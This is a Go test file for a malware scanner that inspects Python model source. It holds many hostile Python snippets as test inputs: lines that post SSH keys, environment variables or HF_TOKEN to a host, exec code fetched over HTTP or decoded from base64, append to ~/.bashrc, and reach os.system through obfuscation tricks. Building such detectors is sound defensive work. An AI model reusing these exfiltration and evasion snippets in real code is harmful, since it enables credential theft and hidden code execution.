package python_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/picketsec/picket"
	"github.com/picketsec/picket/artifact/format"
	"github.com/picketsec/picket/artifact/format/known"
	layout "github.com/picketsec/picket/artifact/format/python"
	"github.com/picketsec/picket/detect"
	"github.com/picketsec/picket/detect/detecttest"
	"github.com/picketsec/picket/detect/model/python"
)

// holder is a format that accepts everything, and a detector that names its content as source, as a configuration does.
type holder struct{}

func (holder) Match(format.Probe) bool { return true }

type namer struct{}

func (holder) Info() format.Info {
	return format.Info{Name: "holder", Title: "Holder", MediaType: "x/y", Risk: format.Data, Refines: "text", Parsed: true}
}

func (namer) Info() detect.Info {
	return detect.Info{Name: "namer", Title: "t", Formats: []string{"holder"}}
}

func (namer) Detect(ctx context.Context, in detect.Input, out *detect.Output) error {
	if in.Member != "" {
		return nil
	}
	return out.Inspect(ctx, detect.Part{Name: "x.py", Blob: in.Blob, As: layout.FormatName})
}

func formats() []format.Format { return append([]format.Format{layout.Format{}}, known.Formats()...) }

// scan scans source that something names, or that nothing names.
func scan(t testing.TB, src string, named bool) picket.Result {
	t.Helper()
	if !named {
		return detecttest.Run(t, []byte(src), formats(), python.Detector{})
	}
	return detecttest.Run(t, []byte(src), append(formats(), holder{}), python.Detector{}, namer{})
}

// ids lists the rules that fired, with the severity of each.
func ids(r picket.Result, member string) string {
	var list []string
	for _, f := range r.Findings {
		if f.Location.Member == member {
			list = append(list, strings.TrimPrefix(f.Rule.ID, "model.python."))
		}
	}
	slices.Sort(list)
	return strings.Join(slices.Compact(list), " ")
}

func TestNamedSource(t *testing.T) {
	for src, want := range map[string]string{
		// What runs on import.
		"import os\nos.system('echo x')":                                  "load-executes",
		"import subprocess as s\ns.run(['echo'])":                         "load-executes",
		"from subprocess import Popen\nclass A:\n    x = Popen('echo')":   "load-executes",
		"import os\nmap(os.system, ['echo x'])":                           "load-executes",
		"import os\nx.y = os.popen":                                       "load-executes",
		"import os\n@os.system\ndef f(): pass":                            "load-executes",
		"import os\ndef f():\n    os.system('x')\nf()":                    "load-executes",
		"import os\ndef g():\n    os.system('x')\ndef f():\n    g()\nf()": "load-executes",
		"import os\nclass A:\n    def __init__(self):\n        self.b()\n    def b(self):\n        os.system('x')\nA()": "load-executes",
		"import os\ndef d(f):\n    os.system('x')\n@d\ndef e(): pass":                                                   "load-executes",
		"import os, threading\ndef f():\n    os.system('x')\nthreading.Thread(target=f).start()":                        "load-executes",
		"import torch\nif True:\n    __import__('os').system('x')":                                                      "load-executes",
		"exec('import os; os.system(\"x\")')":                                                                           "load-executes",
		"eval(\"__import__('os').system('x')\")":                                                                        "load-executes",
		"exec('exec(\"import os; os.system(1)\")')":                                                                     "load-executes",
		"exec(base64.b64decode(x))\nimport base64":                                                                      "hidden-code",
		"import requests\nrequests.post('http://127.0.0.1', data=open('/root/.ssh/id_rsa').read())":                     "exfiltrates",
		"import os, requests\nrequests.post(os.environ['URL'], json=x, headers={'a': os.environ['TOKEN']})":             "load-connects",
		"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))":                                                         "hidden-code",
		"import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oMSk='))":                                     "hidden-code load-executes",
		"import marshal, zlib\nexec(marshal.loads(zlib.decompress(x)))":                                                 "hidden-code load-dynamic-code",
		"import requests\nexec(requests.get('http://127.0.0.1').text)":                                                  "hidden-code load-connects",
		"import os, requests\nrequests.post('http://127.0.0.1', json=dict(os.environ))":                                 "exfiltrates",
		"import os, requests\nrequests.post('http://127.0.0.1', data={'a': os.getenv('HF_TOKEN')})":                     "exfiltrates",
		"exec(x)":                "load-dynamic-code",
		"eval(open('x').read())": "load-dynamic-code",
		"import urllib.request\nurllib.request.urlopen('http://127.0.0.1')":                    "load-connects",
		"import socket\ns = socket.socket()":                                                   "load-connects",
		"import shutil\nshutil.rmtree('x')":                                                    "load-deletes",
		"import os\ngetattr(os, x)('y')":                                                       "computed-name",
		"().__class__.__base__.__subclasses__()":                                               "object-walk",
		"f.__globals__['os']":                                                                  "",
		"f.__globals__['os'].system('x')":                                                      "object-walk",
		"import ctypes\nctypes.CDLL('x.so')":                                                   "native-code",
		"import pickle\npickle.load(f)":                                                        "unpickles",
		"import 𝐨𝐬\n𝐨𝐬.ｓystem('x')":                                                            "load-executes lookalike-name",
		"# coding: utf-7\nx = 1":                                                               "encoding",
		"import glob\nglob.os.system('x')":                                                     "load-executes",
		"class A: pass\na = A()\nimport os\na.s = os\na.s.system('x')":                         "load-executes",
		"import os\n(os if 1 else 0).system('x')":                                              "load-executes",
		"import operator, os\noperator.attrgetter('system')(os)('x')":                          "load-executes",
		"import operator, os\noperator.methodcaller('system', 'x')(os)":                        "load-executes",
		"import sys\nsys.modules.get('os').system('x')":                                        "load-executes",
		"import os\ntype(os).__getattribute__(os, 'system')('x')":                              "load-executes",
		"import os\nclass A:\n    __class_getitem__ = os.system\nA['x']":                       "load-executes",
		"import os\nclass A:\n    def __add__(self, o): os.system(o)\nA() + 'x'":               "load-executes",
		"import os\nf = lambda x: os.system(x)\nf('x')":                                        "load-executes",
		"import psutil\npsutil.Popen(['x'])":                                                   "load-executes",
		"import ctypes\nctypes.cdll['libc.so.6'].system(b'x')":                                 "load-executes",
		"import asyncio\nasyncio.get_event_loop().subprocess_shell(None, 'x')":                 "load-executes",
		"import os\n[f for f in map(getattr, [os], ['system'])][0]('x')":                       "computed-name",
		"globals().update(__import__('os').__dict__)\nsystem('x')":                             "computed-name",
		"import django\ndjango.utils.import_string('os.system')('x')":                          "computed-name",
		"import hydra\nhydra.utils.instantiate({'_target_': 'os.system'})":                     "computed-name",
		"import imp\nimp.load_source('a', 'x.txt')":                                            "load-dynamic-code",
		"import runpy\nrunpy.run_path('x.txt')":                                                "load-dynamic-code",
		"import timeit\ntimeit.timeit('1', setup='import os; os.system(1)')":                   "load-executes",
		"from importlib.machinery import SourceFileLoader as S\nS('a', 'x.txt').load_module()": "load-dynamic-code",
		"import pickle\npickle.loads(b'cos\\nsystem\\n.')":                                     "hidden-code",
		"import pickle\npickle.loads(open('x', 'rb').read())":                                  "unpickles",
		"import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')":                     "persists",
		"import platform\nx = platform.system()\ny = z.system()":                               "",
		"class P:\n    def system(self, x): pass\np = P()\np.system(1)":                        "",
		"print('see ~/.bashrc for the shell that runs this')":                                  "",
		// What runs when the model is made or used.
		"import os\nclass A:\n    def __init__(self):\n        os.system('x')":              "method-executes",
		"import os\nclass A(nn.Module):\n    def forward(self, x):\n        os.system('x')": "method-executes",
		"import os\ndef f():\n    os.system('x')":                                           "function-executes",
		"def f(x):\n    return eval(x)":                                                     "function-dynamic-code",
		"import base64\ndef f(x):\n    exec(base64.b64decode(x))":                           "hidden-code",
		"import requests\ndef f(x):\n    return requests.get(x)":                            "function-connects",
		"import shutil\ndef f(x):\n    shutil.rmtree(x)":                                    "function-deletes",
		"import os\nif __name__ == '__main__':\n    os.system('x')":                         "function-executes",
		"import os\n__name__ = '__main__'\nif __name__ == '__main__':\n    os.system('x')":  "load-executes",
		// Honest source.
		"import torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\nfrom .configuration_x import XConfig\nclass A(PreTrainedModel):\n    def forward(self, x):\n        return self.model.eval()": "",
		"import re\nP = re.compile('x')\nimport os\nx = os.path.join('a', os.environ.get('HOME'))":                                                                                                                   "",
		"import importlib\nm = importlib.import_module('.x', __package__)":                                                                                                                                           "",
		"try:\n    from flash_attn import f\nexcept ImportError:\n    f = None":                                                                                                                                      "",
		"import torch\nx = torch.compile(f)\nsuper().__init__()\nobject.__new__(A)":                                                                                                                                  "",
		"from subprocess import PIPE\nx = PIPE":                                                                                                                                                                      "",
		"def exec(x): pass\nexec('y')":                                                                                                                                                                               "",
		"import requests\nx = requests.exceptions.Timeout":                                                                                                                                                           "",
		"eval('1 + 1')": "",
	} {
		r := scan(t, src, true)
		if got := ids(r, "x.py"); got != want {
			t.Errorf("%s\n\tgot %q, want %q", src, got, want)
		}
		if len(r.Coverage.Gaps) > 0 {
			t.Errorf("%s: gaps %v", src, r.Coverage.Gaps)
		}
	}
}

func TestSourceThatNothingNames(t *testing.T) {
	for src, want := range map[string]string{
		"import os\nos.system('echo x')":                                            "source-executes",
		"import subprocess\ndef f():\n    subprocess.run('x')":                      "",
		"import os\nif __name__ == '__main__':\n    os.system('x')":                 "",
		"import base64\nexec(base64.b64decode(x))":                                  "source-hidden-code",
		"import requests\nexec(requests.get(u).text)":                               "source-hidden-code",
		"import base64\ndef f():\n    exec(base64.b64decode(x))":                    "",
		"import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oMSk='))": "source-executes source-hidden-code",
		"import socket\nsocket.socket()":                                            "",
		"#coding: unicode_escape\nimport x":                                         "encoding",
		"import x\nx = '":                                                           "",
	} {
		r := scan(t, src, false)
		if got := ids(r, ""); got != want || len(r.Coverage.Gaps) > 0 || r.Formats[0] != layout.FormatName {
			t.Errorf("%s\n\tgot %q of %v, want %q; gaps %v", src, got, r.Formats, want, r.Coverage.Gaps)
		}
	}
}

func TestVerdicts(t *testing.T) {
	for src, want := range map[string]picket.Verdict{
		"import os\nos.system('x')": picket.Malicious, "exec(x)": picket.Suspicious, "import torch": picket.Clean, "x = '": picket.Incomplete,
		"import os\ndef f():\n    os.system('x')": picket.Clean,
	} {
		if r := scan(t, src, true); r.Verdict != want {
			t.Errorf("%q is %s, want %s", src, r.Verdict, want)
		}
	}
}

// TestNamedCorpus runs over the files of PICKET_PYTHON_SOURCES, a pattern, as if a configuration named them.
func TestNamedCorpus(t *testing.T) {
	files, err := filepath.Glob(os.Getenv("PICKET_PYTHON_SOURCES"))
	if err != nil {
		t.Fatal(err)
	}
	count := map[string]int{}
	for _, file := range files {
		content, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		r := scan(t, string(content), true)
		count[r.Verdict.String()]++
		for _, f := range r.Findings {
			if f.Rule.Severity >= picket.Medium {
				t.Errorf("%s:%d: %s: %s", file, f.Location.Line, f.Rule.ID, f.Evidence.Summary)
			}
		}
	}
	if len(files) > 0 {
		t.Log(count)
	}
}

func TestFindingsAreBounded(t *testing.T) {
	src := "import os\n"
	for i := range 100 {
		src += fmt.Sprintf("os.system('%d')\n", i)
	}
	if n := len(scan(t, src, true).Findings); n > 20 {
		t.Errorf("%d findings", n)
	}
}

func TestAccept(t *testing.T) {
	detecttest.Accept(t, python.Detector{}, formats(), map[string][]byte{
		"plain":  []byte("import os\nimport base64\nclass A:\n    def f(self):\n        return os.path.join('a')\nexec(base64.b64decode('cHJpbnQoKQ=='))\n"),
		"broken": []byte("import os\nx = (1, '\n"),
	})
}
